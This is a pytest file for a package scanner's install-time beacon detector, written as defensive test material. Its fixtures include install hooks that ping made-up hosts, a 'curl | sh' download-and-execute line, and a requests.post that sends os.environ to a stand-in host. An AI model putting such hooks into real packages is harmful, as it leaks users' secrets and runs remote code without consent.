"""code.beacon: a request at install to a host that serves no code, next to the build steps that
fetch from code hosts. Written by hand in the shapes probes take; no real address."""

from __future__ import annotations

import pytest

from analysis.model import Severity
from tests.analysis.code.members import L, M, install_hook, laid_out, scan, worst

CASES = [
    (
        install_hook("import requests", "requests.get('https://probe.stats-collector.net/ping')"),
        M,
        "a ping from the install command to a host of its own",
    ),
    (
        install_hook("urllib.request.urlopen('http://api.status-board.io/v1/installed').read()"),
        M,
        "urllib's ping at install",
    ),
    (
        install_hook("os.system('curl -s https://collector.stats-host.net/hit')"),
        M,
        "curl of a host at install",
    ),
    (
        install_hook(
            "subprocess.run([sys.executable, '-c', "
            "'import urllib.request; urllib.request.urlopen(\"https://t.stats-host.net/x\")'])"
        ),
        M,
        "the ping inside the Python a post-install step runs",
    ),
    (
        install_hook(
            "urllib.request.urlretrieve('https://github.com/o/r/releases/download/v1/lib.tar.gz',"
            " 'lib.tar.gz')"
        ),
        None,
        "benign: a build fetches a library from GitHub",
    ),
    (
        install_hook("import requests", "requests.get('https://pypi.org/pypi/demo/json')"),
        None,
        "benign: a version check against PyPI",
    ),
    (
        install_hook(
            "urllib.request.urlretrieve('https://huggingface.co/o/m/resolve/main/w.bin', 'w.bin')"
        ),
        None,
        "benign: model weights from a model hub",
    ),
    (
        install_hook("import requests", "requests.get('http://localhost:8080/ready')"),
        None,
        "benign: a local service",
    ),
    (
        install_hook("import requests", "requests.get('https://example.com/')"),
        None,
        "benign: a placeholder address",
    ),
    (
        install_hook(
            "import requests",
            "host = os.environ.get('MIRROR', 'x')",
            "requests.get(f'https://{host}/simple/')",
        ),
        None,
        "an address built at run time names no host",
    ),
    (
        install_hook("os.system('curl -s https://get.stats-host.net/i | sh')"),
        None,
        "a fetch piped into a shell is download-exec, not a beacon",
    ),
    (
        {
            "demo/__init__.py": "import requests\nrequests.get('https://telemetry.demo-lib.dev/start')\n"
        },
        L,
        "a library that phones home on import",
    ),
    (
        {
            "demo/net.py": "import requests\ndef ping():\n"
            "    return requests.get('https://api.demo-lib.dev/health')\n"
        },
        None,
        "benign: a client that contacts its service when called",
    ),
]


@pytest.mark.parametrize(("files", "severity", "reason"), CASES, ids=[c[2] for c in CASES])
def test_beacons(files: dict[str, str | bytes], severity: Severity | None, reason: str) -> None:
    assert worst(laid_out(files), "code.beacon") == severity, reason


def test_a_secret_sent_is_exfiltration_and_not_also_a_beacon() -> None:
    files = install_hook(
        "import requests", "requests.post('https://c.stats-host.net/', data=dict(os.environ))"
    )
    findings = scan(files)
    assert worst(findings, "code.beacon") is None
    assert worst(findings, "code.exfiltration") == Severity.CRITICAL


def test_a_beacon_names_its_host_and_line() -> None:
    files = install_hook(
        "import requests", "requests.get('https://probe.stats-collector.net/ping')"
    )
    (hit,) = [f for f in scan(files) if f.check_id == "code.beacon"]
    assert hit.evidence["host"] == "probe.stats-collector.net"
    assert hit.evidence["line"] == 8
    assert "contacts probe.stats-collector.net with requests.get at install time" in hit.summary
